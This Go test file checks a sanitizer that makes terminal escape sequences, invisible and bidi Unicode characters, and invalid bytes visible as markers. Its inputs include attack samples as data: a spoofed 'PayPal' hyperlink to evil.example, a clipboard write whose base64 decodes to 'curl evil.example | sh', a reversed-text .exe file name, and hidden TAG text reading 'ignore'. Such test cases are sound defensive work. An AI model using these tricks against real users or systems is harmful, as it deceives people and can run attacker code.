package analysis

import (
	"strings"
	"testing"
	"unicode"
)

type sanitizeTest struct {
	name  string
	in    string
	want  string
	kinds []MarkerKind // of the marker segments, in order
}

var lineTests = []sanitizeTest{
	{"clean", "Quarterly report", "Quarterly report", nil},
	{"clean non-ASCII", "Grüße, 日本語 👍🏽 ❤ \uE000", "Grüße, 日本語 👍🏽 ❤ \uE000", nil},

	// Escape sequences.
	{"SGR colour", "\x1b[31mRED\x1b[0m", "⟨CSI 31m⟩RED⟨CSI 0m⟩", []MarkerKind{Escape, Escape}},
	{"clear screen", "\x1b[2J\x1b[Hx", "⟨CSI 2J⟩⟨CSI H⟩x", []MarkerKind{Escape, Escape}},
	{"CSI private params", "\x1b[?1049h", "⟨CSI ?1049h⟩", []MarkerKind{Escape}},
	{"CSI label capped", "\x1b[38;2;255;0;0;1;2;3;4mX", "⟨CSI 38;2;255;0;0;1;…⟩X", []MarkerKind{Escape}},
	{"CSI unterminated", "a\x1b[31", "a⟨CSI⟩", []MarkerKind{Escape}},
	{"CSI cut by control", "\x1b[3\n1mX", "⟨CSI⟩⟨LF⟩1mX", []MarkerKind{Escape, LineBreak}},
	{"OSC 8 with BEL", "\x1b]8;;https://evil.example/\x07PayPal\x1b]8;;\x07", "⟨OSC 8⟩PayPal⟨OSC 8⟩", []MarkerKind{Escape, Escape}},
	{"OSC 8 with ST", "\x1b]8;;https://evil.example/\x1b\\PayPal\x1b]8;;\x1b\\", "⟨OSC 8⟩PayPal⟨OSC 8⟩", []MarkerKind{Escape, Escape}},
	{"OSC 52 clipboard", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07ok", "⟨OSC 52⟩ok", []MarkerKind{Escape}},
	{"OSC title without number", "\x1b]l title\x1b\\", "⟨OSC⟩", []MarkerKind{Escape}},
	{"ESC inside OSC", "\x1b]0;ti\x1b[31mtle\x07X", "⟨OSC 0⟩⟨CSI 31m⟩tle⟨BEL⟩X", []MarkerKind{Escape, Escape, Control}},
	{"DCS", "\x1bP+q544e\x1b\\x", "⟨DCS⟩x", []MarkerKind{Escape}},
	{"APC", "\x1b_Gf=100;AAAA\x1b\\x", "⟨APC⟩x", []MarkerKind{Escape}},
	{"PM", "\x1b^private\x1b\\x", "⟨PM⟩x", []MarkerKind{Escape}},
	{"SOS", "\x1bXstart of string\x1b\\x", "⟨SOS⟩x", []MarkerKind{Escape}},
	{"DCS ignores BEL", "\x1bPa\x07b\x1b\\x", "⟨DCS⟩x", []MarkerKind{Escape}},
	{"8-bit CSI", "\u009b31mX", "⟨CSI 31m⟩X", []MarkerKind{Escape}},
	{"8-bit OSC and ST", "\u009d0;title\u009cX", "⟨OSC 0⟩X", []MarkerKind{Escape}},
	{"8-bit DCS", "\u0090q\u009cX", "⟨DCS⟩X", []MarkerKind{Escape}},
	{"8-bit APC PM SOS", "\u009fa\u009c\u009eb\u009c\u0098c\u009c", "⟨APC⟩⟨PM⟩⟨SOS⟩", []MarkerKind{Escape, Escape, Escape}},
	{"lone ESC at end", "abc\x1b", "abc⟨ESC⟩", []MarkerKind{Escape}},
	{"ESC before non-ASCII", "\x1bé", "⟨ESC⟩é", []MarkerKind{Escape}},
	{"ESC ESC", "\x1b\x1b[m", "⟨ESC⟩⟨CSI m⟩", []MarkerKind{Escape, Escape}},
	{"reset", "\x1bcx", "⟨ESC c⟩x", []MarkerKind{Escape}},
	{"save restore cursor", "\x1b7x\x1b8", "⟨ESC 7⟩x⟨ESC 8⟩", []MarkerKind{Escape, Escape}},
	{"charset", "\x1b(Bx", "⟨ESC (B⟩x", []MarkerKind{Escape}},
	{"lone ST", "\x1b\\", "⟨ESC \\⟩", []MarkerKind{Escape}},

	// Controls.
	{"NUL BEL BS", "a\x00b\x07c\x08d", "a⟨NUL⟩b⟨BEL⟩c⟨BS⟩d", []MarkerKind{Control, Control, Control}},
	{"other C0", "\x01\x1f", "⟨0x01⟩⟨0x1F⟩", []MarkerKind{Control, Control}},
	{"DEL and C1", "\x7f\u0085\u0084\u009c", "⟨DEL⟩⟨U+0085⟩⟨U+0084⟩⟨U+009C⟩", []MarkerKind{Control, LineBreak, Control, Control}},
	{"CR LF", "a\r\nb", "a⟨CR⟩⟨LF⟩b", []MarkerKind{LineBreak, LineBreak}},
	{"VT FF", "\v\f", "⟨0x0B⟩⟨0x0C⟩", []MarkerKind{LineBreak, LineBreak}},
	{"TAB is a space", "a\tb", "a b", nil},
	{"repeats collapse", "\x00\x00\x00", "⟨NUL×3⟩", []MarkerKind{Control}},

	// Invisible and reordering characters.
	{"RLO file name", "invoice\u202Efdp.exe", "invoice⟨RLO⟩fdp.exe", []MarkerKind{Bidi}},
	{"bidi isolates", "\u2067abc\u2069", "⟨RLI⟩abc⟨PDI⟩", []MarkerKind{Bidi, Bidi}},
	{"bidi marks", "\u200E\u200F\u061C", "⟨LRM⟩⟨RLM⟩⟨ALM⟩", []MarkerKind{Bidi, Bidi, Bidi}},
	{"all embeddings", "\u202A\u202B\u202C\u202D\u2068", "⟨LRE⟩⟨RLE⟩⟨PDF⟩⟨LRO⟩⟨FSI⟩", []MarkerKind{Bidi, Bidi, Bidi, Bidi, Bidi}},
	{"zero-width space", "Pay\u200BPal", "Pay⟨ZWSP⟩Pal", []MarkerKind{ZeroWidth}},
	{"zero-width run", "a\u200B\u200B\u200Bb", "a⟨ZWSP×3⟩b", []MarkerKind{ZeroWidth}},
	{"joiners", "a\u200Cb\u200Dc\u2060d", "a⟨ZWNJ⟩b⟨ZWJ⟩c⟨WJ⟩d", []MarkerKind{ZeroWidth, ZeroWidth, ZeroWidth}},
	{"BOM SHY CGJ MVS", "\uFEFFx\u00ADy\u034Fz\u180E", "⟨BOM⟩x⟨SHY⟩y⟨CGJ⟩z⟨MVS⟩", []MarkerKind{ZeroWidth, ZeroWidth, ZeroWidth, ZeroWidth}},
	{"invisible operators", "\u2061\u2064", "⟨U+2061⟩⟨U+2064⟩", []MarkerKind{ZeroWidth, ZeroWidth}},
	{"Hangul fillers", "\u115F\u1160\u3164\uFFA0", "⟨U+115F⟩⟨U+1160⟩⟨U+3164⟩⟨U+FFA0⟩", []MarkerKind{ZeroWidth, ZeroWidth, ZeroWidth, ZeroWidth}},
	{"line separator", "a\u2028b", "a⟨LSEP⟩b", []MarkerKind{LineBreak}},
	{"paragraph separator", "a\u2029b", "a⟨PSEP⟩b", []MarkerKind{LineBreak}},
	{"TAG payload", "hi\U000E0001\U000E0069\U000E0067\U000E006E\U000E006F\U000E0072\U000E0065\U000E0020\U000E0022\U000E007F", `hi⟨TAG "ignore \""⟩`, []MarkerKind{Format}},
	{"TAG payload capped", strings.Repeat("\U000E0061", 40), `⟨TAG "` + strings.Repeat("a", 32) + `…"⟩`, []MarkerKind{Format}},
	{"TAG without text", "\U000E0001", "⟨TAG⟩", []MarkerKind{Format}},
	{"other format", "\u0600\uFFF9", "⟨U+0600⟩⟨U+FFF9⟩", []MarkerKind{Format, Format}},
	{"noncharacters", "\uFFFE\uFFFF\U0001FFFE\uFDD0", "⟨U+FFFE⟩⟨U+FFFF⟩⟨U+1FFFE⟩⟨U+FDD0⟩", []MarkerKind{Unassigned, Unassigned, Unassigned, Unassigned}},
	{"unassigned", "\u0378", "⟨U+0378⟩", []MarkerKind{Unassigned}},

	// Invalid UTF-8.
	{"invalid bytes", "bad\xff\xc0x", "bad⟨0xFF⟩⟨0xC0⟩x", []MarkerKind{Invalid, Invalid}},
	{"raw C1 byte", "\x9b31m", "⟨0x9B⟩31m", []MarkerKind{Invalid}},
	{"truncated rune", "a\xe6\x97", "a⟨0xE6⟩⟨0x97⟩", []MarkerKind{Invalid, Invalid}},
	{"surrogate", "\xed\xa0\x80", "⟨0xED⟩⟨0xA0⟩⟨0x80⟩", []MarkerKind{Invalid, Invalid, Invalid}},
	{"same invalid bytes", "\xff\xff\xff", "⟨0xFF×3⟩", []MarkerKind{Invalid}},
	{"invalid run", strings.Repeat("\xfe\xff", 5), "⟨10 invalid bytes⟩", []MarkerKind{Invalid}},
	{"U+FFFD is fine", "\uFFFD", "\uFFFD", nil},

	// Combining marks.
	{"few marks kept", "e\u0301\u0302\u0303\u0304", "e\u0301\u0302\u0303\u0304", nil},
	{"zalgo", "Z\u0301\u0302\u0303\u0304\u0305\u0306a", "Z\u0301\u0302⟨+4 marks⟩a", []MarkerKind{Combining}},
	{"VS supplement", "葛\U000E0100", "葛⟨VS⟩", []MarkerKind{ZeroWidth}},
	{"VS supplement smuggling", "A" + strings.Repeat("\U000E0120\U000E0145", 8), "A⟨VS×16⟩", []MarkerKind{ZeroWidth}},
	{"variation selector smuggling", "😀" + strings.Repeat("\uFE01", 12), "😀⟨VS×12⟩", []MarkerKind{ZeroWidth}},

	// Every Default_Ignorable_Code_Point, not only the well-known ones.
	{"Khmer inherent vowels", "ab\u17B4c\u17B5", "ab⟨U+17B4⟩c⟨U+17B5⟩", []MarkerKind{ZeroWidth, ZeroWidth}},
	{"Mongolian variation selectors", "\u1820\u180B\u180C\u180D\u180F", "\u1820⟨VS×4⟩", []MarkerKind{ZeroWidth}},
	{"Mongolian vowel separator among them", "\u180B\u180E\u180F", "⟨VS⟩⟨MVS⟩⟨VS⟩", []MarkerKind{ZeroWidth, ZeroWidth, ZeroWidth}},
	{"variation selectors", "a\uFE00b\uFE0Fc", "a⟨VS⟩b⟨VS⟩c", []MarkerKind{ZeroWidth, ZeroWidth}},
	{"emoji presentation selector", "❤\uFE0F", "❤⟨VS⟩", []MarkerKind{ZeroWidth}},
	{"all sixteen selectors", "x\uFE00\uFE01\uFE02\uFE03\uFE04\uFE05\uFE06\uFE07\uFE08\uFE09\uFE0A\uFE0B\uFE0C\uFE0D\uFE0E\uFE0F", "x⟨VS×16⟩", []MarkerKind{ZeroWidth}},
	{"TAG letter A", "ok\U000E0041", `ok⟨TAG "A"⟩`, []MarkerKind{Format}},
	{"invisible reserved", "\u2065\uFFF0", "⟨U+2065⟩⟨U+FFF0⟩", []MarkerKind{ZeroWidth, ZeroWidth}},
}

// TestEveryDefaultIgnorableIsMarked derives Default_Ignorable_Code_Point
// as UAX #44 does, from Go's Unicode tables, and checks that the sanitizer
// marks every such character, alone and between letters.
func TestEveryDefaultIgnorableIsMarked(t *testing.T) {
	n := 0
	for r := rune(0); r <= unicode.MaxRune; r++ {
		if !defaultIgnorable(r) {
			continue
		}
		n++
		for _, s := range []string{string(r), "a" + string(r) + "b"} {
			if got := SanitizeLine(s); got.Markers == 0 {
				t.Errorf("U+%04X unmarked: %q", r, got.String())
			}
		}
	}
	if n < 4000 { // 4,174 in Unicode 15
		t.Fatalf("only %d default-ignorable code points derived; the derivation is wrong", n)
	}
}

// defaultIgnorable is UAX #44's derivation: Other_Default_Ignorable_Code_Point
// + Cf + Variation_Selector − White_Space − U+FFF9..U+FFFB − U+13430..U+13440
// − Prepended_Concatenation_Mark.
func defaultIgnorable(r rune) bool {
	if !unicode.In(r, unicode.Other_Default_Ignorable_Code_Point, unicode.Cf, unicode.Variation_Selector) {
		return false
	}
	switch {
	case unicode.In(r, unicode.White_Space, unicode.Prepended_Concatenation_Mark),
		r >= 0xFFF9 && r <= 0xFFFB, r >= 0x13430 && r <= 0x13440:
		return false
	}
	return true
}

func TestSanitizeLine(t *testing.T) {
	for _, tt := range lineTests {
		t.Run(tt.name, func(t *testing.T) {
			got := SanitizeLine(tt.in)
			checkText(t, got, tt.want, tt.kinds)
			assertSafeLine(t, got)
		})
	}
}

func checkText(t *testing.T, got Text, want string, kinds []MarkerKind) {
	t.Helper()
	if got.String() != want {
		t.Errorf("got  %q\nwant %q", got.String(), want)
	}
	var gotKinds []MarkerKind
	for _, s := range got.Segs {
		if s.Marker {
			gotKinds = append(gotKinds, s.Kind)
		}
	}
	if !equalKinds(gotKinds, kinds) {
		t.Errorf("marker kinds %v, want %v", gotKinds, kinds)
	}
	if got.Markers != len(kinds) {
		t.Errorf("Markers = %d, want %d", got.Markers, len(kinds))
	}
}

func equalKinds(a, b []MarkerKind) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

func TestSanitizeLineCap(t *testing.T) {
	got := SanitizeLine(strings.Repeat("a", 5000))
	checkText(t, got, strings.Repeat("a", 4096)+"⟨+904 bytes⟩", []MarkerKind{Overflow})

	// The cut does not split a rune.
	got = SanitizeLine(strings.Repeat("a", 4095) + "é" + "b")
	checkText(t, got, strings.Repeat("a", 4095)+"⟨+3 bytes⟩", []MarkerKind{Overflow})
}

func TestUnterminatedSequenceIsBounded(t *testing.T) {
	body := "8;;" + strings.Repeat("a", 5000)
	got := Sanitize("\x1b]" + body).String()
	want := "⟨OSC 8⟩" + strings.Repeat("a", len(body)-maxSeq)
	if got != want {
		t.Errorf("got %d bytes %q…, want %d bytes", len(got), got[:min(40, len(got))], len(want))
	}
	// An unterminated string sequence hides at most maxSeq bytes of a body.
	got = Sanitize("\x1bP" + strings.Repeat("x", 3*maxSeq)).String()
	if want := "⟨DCS⟩" + strings.Repeat("x", 2*maxSeq); got != want {
		t.Errorf("DCS: got %d bytes, want %d", len(got), len(want))
	}
}

var multilineTests = []sanitizeTest{
	{"newlines kept", "a\nb\n", "a\nb\n", nil},
	{"CRLF", "l1\r\nl2\r\n", "l1\nl2\n", nil},
	{"lone CR", "l1\rl2", "l1⟨CR⟩l2", []MarkerKind{LineBreak}},
	{"CR CR LF", "a\r\r\nb", "a⟨CR⟩\nb", []MarkerKind{LineBreak}},
	{"tab", "a\tb", "a       b", nil},
	{"tab stops", "ab\tc\td", "ab      c       d", nil},
	{"tab after newline", "abcdefghij\n\tx", "abcdefghij\n        x", nil},
	{"tab after wide text", "日本\tx", "日本    x", nil},
	{"tab after marker", "\x1b[31m\tX", "⟨CSI 31m⟩       X", []MarkerKind{Escape}},
	{"tab after collapsed marker", "\u200B\u200Ba\tX", "⟨ZWSP×2⟩a       X", []MarkerKind{ZeroWidth}},
	{"LF is not a marker", "a\nb\x1b[0m", "a\nb⟨CSI 0m⟩", []MarkerKind{Escape}},
	{"sequences span lines", "\x1b]0;a\nb\x07c", "⟨OSC 0⟩c", []MarkerKind{Escape}},
}

func TestSanitize(t *testing.T) {
	for _, tt := range multilineTests {
		t.Run(tt.name, func(t *testing.T) {
			got := Sanitize(tt.in)
			checkText(t, got, tt.want, tt.kinds)
			assertSafe(t, got)
		})
	}
	// Everything SanitizeLine hides, Sanitize hides too, except line breaks.
	for _, tt := range lineTests {
		got := Sanitize(tt.in)
		assertSafe(t, got)
		if !strings.ContainsAny(tt.in, "\r\n\t") && got.String() != tt.want {
			t.Errorf("%s: Sanitize = %q, SanitizeLine = %q", tt.name, got, tt.want)
		}
	}
}

func TestFastPath(t *testing.T) {
	for _, s := range []string{"plain ASCII subject", "Grüße 日本語", "two\nlines"} {
		got := Sanitize(s)
		if len(got.Segs) != 1 || got.Segs[0].S != s || got.Markers != 0 {
			t.Errorf("Sanitize(%q) = %#v, want the input as one segment", s, got)
		}
	}
	if got := SanitizeLine(""); len(got.Segs) != 0 {
		t.Errorf("SanitizeLine(\"\") = %#v, want no segments", got)
	}
	s := "Re: Quarterly invoice for account 12345"
	if n := testing.AllocsPerRun(100, func() { SanitizeLine(s) }); n > 1 {
		t.Errorf("SanitizeLine of clean ASCII allocates %v times, want at most 1", n)
	}
}

// pathologicalText is input that would take quadratic time if a scan
// restarted at each item or re-measured the line at each tab. Speed is
// measured by BenchmarkSanitizePathological (no timed tests: a loaded CI
// machine must not fail them); here they must come out safe.
var pathologicalText = []string{
	strings.Repeat("\x1b]", 1<<17),
	strings.Repeat("\x1b[", 1<<17),
	strings.Repeat("\x1bP\x1b", 1<<17),
	strings.Repeat("a\u0301", 1<<17),
	strings.Repeat("\u200B\t", 1<<17),
	strings.Repeat("日\t", 1<<17),
	strings.Repeat("\xff", 1<<18),
}

func TestSanitizePathologicalIsSafe(t *testing.T) {
	for _, s := range pathologicalText {
		assertSafe(t, Sanitize(s))
	}
}
